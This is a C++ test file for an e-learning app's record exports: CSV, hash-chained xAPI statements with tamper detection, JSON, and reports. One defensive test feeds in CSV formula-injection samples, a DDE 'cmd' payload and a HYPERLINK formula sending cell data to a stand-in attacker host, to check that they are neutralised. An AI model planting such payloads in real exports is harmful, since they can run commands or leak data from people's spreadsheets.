// What trainers and learners get back: the CSV, the hash-chained xAPI
// statements, the full JSON, and the report.
#include <catch2/catch.hpp>

#include <sstream>

#include <nlohmann/json.hpp>

#include "records/csv.hpp"
#include "records/full_export.hpp"
#include "records/report.hpp"
#include "records/xapi.hpp"
#include "session/session.hpp"
#include "support.hpp"

using namespace lektion;
using namespace lektion::test;
using nlohmann::json;

namespace {

std::vector<std::string> pick(const Question& q, bool right) {
    for (const Option& o : q.options)
        if (o.correct == right) return {o.id};
    return {};
}

// Ann finishes and passes on her second attempt; Bo "Bob", Jr. reads the
// first page, answers lesson 1's check wrong and stops.
struct Classroom {
    TempDir dir;
    CoursePtr course = small_course();
    Store store{dir.path()};
    Learner ann = store.create_learner("Ann", "da");
    Learner bo = store.create_learner("Bo \"Bob\", Jr.", "da");

    Classroom() {
        Session a(course, {}, store.sink(ann.id, *course));
        for (int l = 0; l < 2; ++l) {
            a.open_lesson(l);
            while (a.next()) {
            }
            a.answer_check(course->lessons[static_cast<std::size_t>(l)].checks[0].id,
                           pick(course->lessons[static_cast<std::size_t>(l)].checks[0], true));
        }
        a.start_quiz(1);
        for (const char* q : {"q1", "q2", "q3"}) a.answer_quiz(q, pick(*course->question(q), false));
        a.submit_quiz();  // 0 of 3: failed
        a.start_quiz(2);
        a.answer_quiz("q1", pick(*course->question("q1"), false));
        a.answer_quiz("q2", pick(*course->question("q2"), true));
        a.answer_quiz("q3", pick(*course->question("q3"), true));
        a.submit_quiz();  // 2 of 3: passed at 60 %

        Session b(course, {}, store.sink(bo.id, *course));
        b.open_lesson(0);
        b.answer_check("l1.check", pick(course->lessons[0].checks[0], false));
    }
};

std::vector<std::string> lines(const std::string& text) {
    std::vector<std::string> out;
    std::size_t start = 0;
    for (std::size_t end; (end = text.find("\r\n", start)) != std::string::npos; start = end + 2)
        out.push_back(text.substr(start, end - start));
    return out;
}

}  // namespace

TEST_CASE("the CSV has a BOM, a header, CRLF lines, RFC 4180 quoting and a row per lesson and attempt") {
    Classroom c;
    std::ostringstream out;
    write_csv(out, c.store, {std::nullopt, c.course.get()});
    const std::string text = out.str();
    REQUIRE(text.rfind("\xEF\xBB\xBF", 0) == 0);
    const std::vector<std::string> rows = lines(text.substr(3));
    REQUIRE(rows.size() == 1 + 2 + 2 + 2);  // header, Ann's lessons and attempts, Bo's lessons
    CHECK(rows[0] ==
          "learner,course,course_version,item,item_id,title,completed,score_raw,score_max,score_percent,"
          "passed,started,completed_at,last_activity");
    CHECK_THAT(rows[1], Catch::StartsWith("Ann,c,1,lesson,l1,Lektion,yes,1,1,100.0,,20"));
    CHECK_THAT(rows[3], Catch::StartsWith("Ann,c,1,quiz attempt,1,Quiz,yes,0,3,0.0,no,20"));
    CHECK_THAT(rows[4], Catch::StartsWith("Ann,c,1,quiz attempt,2,Quiz,yes,2,3,66.7,yes,20"));
    CHECK_THAT(rows[5], Catch::StartsWith("\"Bo \"\"Bob\"\", Jr.\",c,1,lesson,l1,Lektion,no,0,1,0.0,,20"));
    CHECK_THAT(rows[6], Catch::StartsWith("\"Bo \"\"Bob\"\", Jr.\",c,,lesson,l2,Lektion,no,,,,,,,"));
    CHECK(text.back() == '\n');
    CHECK(csv_field("plain") == "plain");
    CHECK(csv_field("a\nb") == "\"a\nb\"");
}

TEST_CASE("the xAPI statements carry the event ids and a chain that shows tampering") {
    Classroom c;
    const std::string text = xapi_export(c.store, {}, {});
    const json statements = json::parse(text);
    REQUIRE(statements.size() > 10);

    std::set<std::string> event_ids;
    for (const Learner& l : c.store.learners())
        for (const RecordedEvent& e : c.store.events(l.id)) event_ids.insert(e.uuid);
    std::set<std::string> verbs;
    for (const json& s : statements) {
        CHECK(event_ids.count(s["id"].get<std::string>()) == 1);
        verbs.insert(s["verb"]["id"].get<std::string>().substr(31));
        CHECK(s["actor"]["account"]["homePage"] == default_home_page);
        CHECK(s["context"]["registration"] ==
              c.store.registration(s["actor"]["account"]["name"] == "Ann" ? c.ann.id : c.bo.id, "c"));
    }
    CHECK(verbs ==
          std::set<std::string>{"experienced", "answered", "attempted", "completed", "passed", "failed"});

    const auto passed = std::find_if(statements.begin(), statements.end(), [](const json& s) {
        return s["verb"]["id"] == "http://adlnet.gov/expapi/verbs/passed";
    });
    REQUIRE(passed != statements.end());
    CHECK((*passed)["result"]["score"] == json({{"scaled", 2.0 / 3}, {"raw", 2}, {"min", 0}, {"max", 3}}));

    const ChainCheck intact = verify_xapi_chain(text);
    CHECK(intact.intact);
    CHECK(intact.message == std::to_string(statements.size()) + " statements, chain intact");

    SECTION("a removed statement") {
        json t = statements;
        t.erase(t.begin() + 5);
        const ChainCheck r = verify_xapi_chain(t.dump());
        CHECK_FALSE(r.intact);
        CHECK(r.broken == 6);
    }
    SECTION("the first statement removed") {
        json t = statements;
        t.erase(t.begin());
        CHECK(verify_xapi_chain(t.dump()).broken == 1);
    }
    SECTION("the last statement removed") {
        json t = statements;
        t.erase(t.end() - 1);
        const ChainCheck r = verify_xapi_chain(t.dump());
        CHECK_FALSE(r.intact);
        CHECK(r.broken == statements.size());
        CHECK_THAT(r.message, Catch::Contains("missing"));
    }
    SECTION("two statements swapped") {
        json t = statements;
        std::swap(t[3], t[4]);
        CHECK(verify_xapi_chain(t.dump()).broken == 4);
    }
    SECTION("a score edited") {
        json t = statements;
        const auto at = static_cast<std::size_t>(passed - statements.begin());
        t[at]["result"]["score"]["raw"] = 3;
        const ChainCheck r = verify_xapi_chain(t.dump(4));
        CHECK(r.broken == at + 1);
        CHECK_THAT(r.message, Catch::Contains("edited") && Catch::Contains(t[at]["id"].get<std::string>()));
    }
    SECTION("the last statement edited") {
        json t = statements;
        t.back()["timestamp"] = "2001-01-01T00:00:00.000Z";
        CHECK(verify_xapi_chain(t.dump()).broken == statements.size());
    }
    SECTION("not JSON at all") {
        CHECK_FALSE(verify_xapi_chain("{\"oops\"").intact);
        CHECK_FALSE(verify_xapi_chain("[1, 2]").intact);
    }
}

TEST_CASE("one learner's export holds all their data and nobody else's") {
    Classroom c;
    const json all = json::parse(json_export(c.store, {c.ann.id, nullptr}));
    REQUIRE(all["learners"].size() == 1);
    const json& ann = all["learners"][0];
    CHECK(ann["name"] == "Ann");
    REQUIRE(ann["courses"].size() == 1);
    CHECK(ann["courses"][0]["events"].size() == c.store.events(c.ann.id).size());
    CHECK(ann["courses"][0]["state"]["attempts"] == 2);
    CHECK(json_export(c.store, {c.ann.id, nullptr}).find("Bob") == std::string::npos);

    const json statements = json::parse(xapi_export(c.store, {c.bo.id, nullptr}, {}));
    for (const json& s : statements) CHECK(s["actor"]["account"]["name"] == "Bo \"Bob\", Jr.");
}

TEST_CASE("the report shows completion, scores and each question's correct first answers") {
    Classroom c;
    const Report r = make_report(c.store, *c.course);
    REQUIRE(r.learners.size() == 2);
    const LearnerReport& ann = r.learners[0];
    CHECK(ann.learner.name == "Ann");
    CHECK(ann.lessons[0].state == LessonState::complete);
    CHECK(ann.lessons[1].state == LessonState::complete);
    CHECK(ann.best->raw == 2);
    CHECK(ann.last->raw == 2);
    CHECK(ann.attempts == 2);
    CHECK(ann.course_complete);
    const LearnerReport& bo = r.learners[1];
    CHECK(bo.lessons[0].state == LessonState::in_progress);
    CHECK(bo.lessons[0].fraction == Approx(2.0 / 3));  // one section of two, and the check
    CHECK(bo.lessons[1].state == LessonState::not_started);
    CHECK_FALSE(bo.best);

    // Ann's first attempt counts: every quiz question wrong the first time.
    REQUIRE(r.quiz.size() == 3);
    for (const QuestionReport& q : r.quiz) {
        CHECK(q.answered == 1);
        CHECK(q.correct == 0);
    }
    REQUIRE(r.checks.size() == 2);
    CHECK(r.checks[0].id == "l1.check");
    CHECK(r.checks[0].answered == 2);
    CHECK(r.checks[0].correct == 1);
    CHECK(r.checks[0].share() == 0.5);
}

TEST_CASE("CSV text cells that a spreadsheet would run as a formula are neutralised; numbers stay numbers") {
    TempDir dir;
    // A lesson whose title starts with "@", as a course author might write it.
    Course edited = *small_course();
    edited.lessons[0].title.spans = {Span{"@SUM(1+1)*cmd|' /C calc'!A0"}};
    edited.lessons[1].title.spans = {Span{"-Lektion 2"}};
    const CoursePtr course = std::make_shared<const Course>(edited);
    Store store(dir.path());
    for (const char* name :
         {"=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klik\")", "-2+3", "+45 12 34 56 78", "@Ann"}) {
        const Learner l = store.create_learner(name);
        Session s(course, {}, store.sink(l.id, *course));
        s.open_lesson(0);
        s.answer_check("l1.check", pick(course->lessons[0].checks[0], true));
    }
    std::ostringstream out;
    write_csv(out, store, {std::nullopt, course.get()});
    const std::vector<std::string> rows = lines(out.str().substr(3));
    REQUIRE(rows.size() == 1 + 4 * 2);
    // Sorted by folded name: "+45…", "-2+3", "=HYPERLINK…", "@Ann".
    CHECK_THAT(rows[1], Catch::StartsWith(
                            "'+45 12 34 56 78,c,1,lesson,l1,'@SUM(1+1)*cmd|' /C calc'!A0,no,1,1,100.0,"));
    CHECK_THAT(rows[2], Catch::StartsWith("'+45 12 34 56 78,c,,lesson,l2,'-Lektion 2,no,,,,"));
    CHECK_THAT(rows[3], Catch::StartsWith("'-2+3,c,1,lesson,l1,"));
    CHECK_THAT(rows[5], Catch::StartsWith(
                            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Klik\"\")\",c,1,lesson,"));
    CHECK_THAT(rows[7], Catch::StartsWith("'@Ann,c,1,"));
    for (const std::string& row : rows) {
        INFO(row);
        // No cell, quoted or not, begins with a formula character.
        bool start = true, quoted = false;
        for (std::size_t i = 0; i < row.size(); ++i) {
            const char c = row[i];
            if (start && c == '"') {
                quoted = true;
                continue;
            }
            if (start) CHECK(std::string("=+-@\t\r").find(c) == std::string::npos);
            start = false;
            if (quoted && c == '"' && i + 1 < row.size() && row[i + 1] == '"') ++i;
            else if (quoted && c == '"') quoted = false;
            else if (!quoted && c == ',') start = true;
        }
    }
    CHECK(csv_field("=1+2") == "'=1+2");
    CHECK(csv_field("\tx") == "'\tx");
    CHECK(csv_field("\rx") == "\"'\rx\"");
    CHECK(csv_field("=a,b") == "\"'=a,b\"");
    CHECK(csv_field("\xEF\xBC\x9D"
                    "1+2") ==
          "'\xEF\xBC\x9D"
          "1+2");  // a full-width "=", which Excel reads as "="
    CHECK(csv_field("a=b") == "a=b");
    CHECK(csv_field("") == "");
}

TEST_CASE("an empty array of statements is not an intact chain") {
    const ChainCheck c = verify_xapi_chain("[]");
    CHECK_FALSE(c.intact);
    CHECK(c.message == "no statements");
    CHECK_FALSE(verify_xapi_chain(" [ ]\n").intact);
}

TEST_CASE("malformed JSON is reported with its line and column") {
    const ChainCheck c = verify_xapi_chain("[\n  {\"id\": 1},\n  {\"id\": tru}\n]");
    CHECK_FALSE(c.intact);
    CHECK(c.line == 3);
    CHECK(c.column == 13);
    CHECK_THAT(c.message, Catch::StartsWith("not valid JSON: ") && Catch::Contains("tru"));
    // Columns count characters, not bytes.
    const ChainCheck wide = verify_xapi_chain("[\"æøå\" x]");
    CHECK(wide.line == 1);
    CHECK(wide.column == 8);
    // Nesting deep enough to exhaust the stack of a recursive reader is refused before reading it.
    const std::string deep = "[" + std::string(100000, '[') + std::string(100000, ']') + "]";
    const ChainCheck d = verify_xapi_chain(deep);
    CHECK_FALSE(d.intact);
    CHECK_THAT(d.message, Catch::Contains("nested deeper than"));
}
